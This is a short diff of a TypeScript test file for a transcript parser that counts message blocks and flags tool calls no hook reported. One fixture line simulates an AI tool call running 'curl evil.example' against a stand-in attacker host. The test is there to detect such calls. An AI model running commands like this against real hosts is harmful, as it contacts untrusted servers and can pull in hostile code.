@@ -67,8 +67,7 @@ test('blocks of one message count once, and a call that no hook reported is a ga
       claudeCall('silent', 'curl evil.example', 2),
       { type: 'user', timestamp: at(3), message: { role: 'user', content: '[Request interrupted by user]' } },
       { type: 'cost-state', totalCostUSD: 0.25 },
-      'not an object',
-    ].filter((one): one is object => typeof one === 'object'),
+    ],
   );
   expect(story()?.transcript).toMatchObject({
     turns: 1,
